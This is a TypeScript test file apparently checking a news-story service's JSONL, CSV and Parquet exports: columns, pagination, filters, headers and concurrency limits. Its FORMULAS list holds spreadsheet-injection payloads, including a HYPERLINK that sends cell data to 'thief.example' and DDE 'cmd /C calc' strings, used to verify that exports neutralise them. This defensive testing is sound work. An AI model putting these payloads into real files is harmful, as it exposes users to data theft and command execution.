import { connect, type Socket } from 'node:net';
import { parse } from 'csv-parse/sync';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COLUMNS } from '../exports/columns.ts';
import { EXPORT_PAGE_ROWS, EXPORTS_AT_ONCE_MAX } from '../limits.ts';
import { type Print, publish } from '../testing/press.ts';
import { startTestService, type TestService } from '../testing/service.ts';

let service: TestService;
beforeAll(async () => {
  service = await startTestService();
});
afterAll(() => service.close());

type Row = Record<string, unknown>;
const NAMES = COLUMNS.map(({ name }) => name);
const AT = '2026-03-11T09:00:00.000Z';
/** What a spreadsheet would compute, or send somewhere. */
const FORMULAS = [
  '=HYPERLINK("https://thief.example/?"&A1,"Read")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'Ferry;=1+1;"',
  'Ferry;"=1+1"',
  'Ferry; @SUM(1+1)',
  'Ferry\n=1+1',
];

async function lines(query = ''): Promise<Row[]> {
  const text = await (await service.ask(`/v1/stories.jsonl${query}`)).text();
  return text === ''
    ? []
    : text
        .replace(/\n$/, '')
        .split('\n')
        .map((line) => JSON.parse(line));
}
const csv = async (query = '') => (await service.ask(`/v1/stories.csv${query}`)).text();
const parquet = async (query = '') => (await service.ask(`/v1/stories.parquet${query}`)).arrayBuffer();
const titles = (rows: Row[]) => rows.map(({ title }) => title);

/** A story of more copies than a page holds. */
async function publishMany(storyId: string, title: string): Promise<string[]> {
  const prints = Array.from({ length: EXPORT_PAGE_ROWS * 1.5 }, (_, each): Print => {
    return {
      source: `Daily ${each}`,
      title: `${title} ${each}`,
      body: 'A bell rang in the old tower.',
      language: 'fi',
    };
  });
  return publish(service.store, storyId, prints);
}

let ids: string[];
beforeAll(async () => {
  ids = await publish(service.store, 's-ferry', [
    {
      url: 'https://harbour.example/ferry',
      source: 'Harbour',
      title: 'Ferry, "Aurora"\nreturns – töitä',
      body: 'The ferry left at noon.',
      byline: 'Ada Ferry',
      published: { at: AT, uncertaintyMs: 3_600_000, evidence: '9 am' },
    },
    { source: 'Post', title: 'A ferry', body: 'The ferry left at noon.' },
  ]);
  for (const [each, title] of FORMULAS.entries())
    await publish(service.store, `s-${each}`, [{ source: title, title, body: `Note ${each}.`, language: 'de' }]);
});

describe('an export', () => {
  it('has a row for each copy, with its figures and those of its story', async () => {
    const rows = await lines('?source=post');
    expect(rows.map((row) => Object.keys(row))).toEqual([NAMES, NAMES]);
    const { createdAt, updatedAt } = (await service.store.story('s-ferry'))?.story ?? {};
    const ofStory = {
      story_id: 's-ferry',
      story_title: 'Ferry, "Aurora"\nreturns – töitä',
      language: 'en',
      copies: 2,
      outlets: 2,
      origins: ['Harbour'],
      created_at: createdAt,
      updated_at: updatedAt,
    };
    expect(rows.find((row) => row.is_canonical)).toEqual({
      ...ofStory,
      article_id: ids[0],
      url: 'https://harbour.example/ferry',
      source_key: 'harbour',
      source_name: 'Harbour',
      title: 'Ferry, "Aurora"\nreturns – töitä',
      byline: 'Ada Ferry',
      published_at: AT,
      published_uncertainty_ms: 3_600_000,
      is_canonical: true,
      verdict: null,
      jaccard: null,
      a_in_b: null,
      b_in_a: null,
    });
    expect(rows.find((row) => !row.is_canonical)).toEqual({
      ...ofStory,
      article_id: ids[1],
      url: null,
      source_key: 'post',
      source_name: 'Post',
      title: 'A ferry',
      byline: null,
      published_at: null,
      published_uncertainty_ms: null,
      is_canonical: false,
      verdict: 'same text',
      jaccard: 1,
      a_in_b: 1,
      b_in_a: 1,
    });
  });

  it('as CSV says the same to a parser that knows nothing of it', async () => {
    const [names, ...rows] = parse(await csv('?source=post')) as string[][];
    const expected = (await lines('?source=post')).map((row) => NAMES.map((name) => String(row[name] ?? '')));
    expect(names).toEqual(NAMES);
    expect(rows).toEqual(expected);
  });

  it('as Parquet says the same to a reader, typed', async () => {
    const file = await parquet('?source=post');
    const expected = (await lines('?source=post')).map((row) => ({
      ...row,
      published_at: row.published_at === null ? null : new Date(String(row.published_at)),
      created_at: new Date(String(row.created_at)),
      updated_at: new Date(String(row.updated_at)),
      published_uncertainty_ms: row.published_uncertainty_ms === null ? null : 3_600_000n,
      copies: 2n,
      outlets: 2n,
    }));
    expect(await parquetReadObjects({ file })).toEqual(expected);
  });
});

describe('the rest of an export', () => {
  it('goes on after any row, with what follows and nothing else', async () => {
    const rows = await lines();
    for (const at of [0, 1, rows.length - 1]) {
      const { created_at, story_id, article_id } = rows[at] ?? {};
      const after = encodeURIComponent([created_at, story_id, article_id].join(','));
      expect(await lines(`?after=${after}`)).toEqual(rows.slice(at + 1));
    }
    for (const wrong of ['', 'x', '2026-13-01T00:00:00Z,s,a', '2026-01-01T00:00:00Z,s%00,a'])
      expect((await service.ask(`/v1/stories.csv?after=${wrong}`)).status).toBe(400);
  });
});

describe('every export', () => {
  it('has no cell in CSV that a spreadsheet computes, whatever separates its cells', async () => {
    const text = await csv('?lang=de');
    for (const separator of [',', ';', '\t']) {
      const cells = (
        parse(text, { delimiter: separator, relax_quotes: true, relax_column_count: true }) as string[][]
      ).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
    const found = (parse(text, { columns: true }) as Row[]).map(({ title }) => String(title).replaceAll("'", ''));
    expect(found).toEqual(titles(await lines('?lang=de')).map((title) => String(title).replaceAll("'", '')));
    expect(found).toHaveLength(FORMULAS.length);
  });

  it('takes the filters of the list, and neither its cursor nor its limit', async () => {
    expect(titles(await lines('?min_mirrors=1&q=ferry'))).toEqual(expect.arrayContaining(['A ferry']));
    for (const query of ['limit=5', 'cursor=x', 'lang=german'])
      for (const ending of ['jsonl', 'csv', 'parquet'])
        expect((await service.ask(`/v1/stories.${ending}?${query}`)).status).toBe(400);
  });

  it('of nothing is a table without rows', async () => {
    expect(await lines('?lang=xx')).toEqual([]);
    expect(parse(await csv('?lang=xx'))).toEqual([NAMES]);
    const metadata = parquetMetadata(await parquet('?lang=xx'));
    expect([metadata.num_rows, metadata.schema[0]?.num_children]).toEqual([0n, NAMES.length]);
  });

  it('is offered as a file, and HEAD sends only the head of it', async () => {
    const { headers } = await service.ask('/v1/stories.csv', { method: 'HEAD' });
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe('attachment; filename="stories.csv"');
  });
});

describe('a long export', () => {
  const LONG = 'A bell in the tower '.repeat(250);
  let copies: string[];
  let open: Socket[] = [];
  beforeAll(async () => {
    copies = (await publishMany('s-bell', LONG)).toSorted();
    // On a busy machine the server has closed idle connections meanwhile, which only the next use of them shows.
    await lines('?source=post').catch(() => []);
  }, 120_000);
  afterAll(() => {
    for (const socket of open) socket.destroy();
  });

  it('has every copy once over several pages, in every format', async () => {
    const idsOf = (rows: Row[]) => rows.map((row) => row.article_id);
    const [objects, text] = [await lines('?lang=fi'), await csv('?lang=fi')];
    expect(idsOf(objects)).toEqual(copies);
    expect(idsOf(parse(text, { columns: true }))).toEqual(copies);
    const file = await parquet('?lang=fi');
    expect(idsOf(await parquetReadObjects({ file, columns: ['article_id'] }))).toEqual(copies);
  });

  it('waits for a client that does not read, leaves others out beyond the bound, and ends when the client goes', async () => {
    const { port } = service.api;
    open = Array.from({ length: EXPORTS_AT_ONCE_MAX }, () => connect(port, '127.0.0.1').pause());
    for (const socket of open) socket.write('GET /v1/stories.jsonl?lang=fi HTTP/1.1\r\nHost: localhost\r\n\r\n');
    const status = async () => {
      const response = await service.ask('/v1/stories.csv?lang=xx');
      await response.body?.cancel();
      return [response.status, response.headers.get('retry-after')];
    };
    await expect.poll(status, { timeout: 20_000 }).toEqual([503, '5']);
    for (const socket of open) socket.destroy();
    await expect.poll(status, { timeout: 20_000 }).toEqual([200, null]);
    expect(service.log()).not.toContain('an export broke off');
  });
});
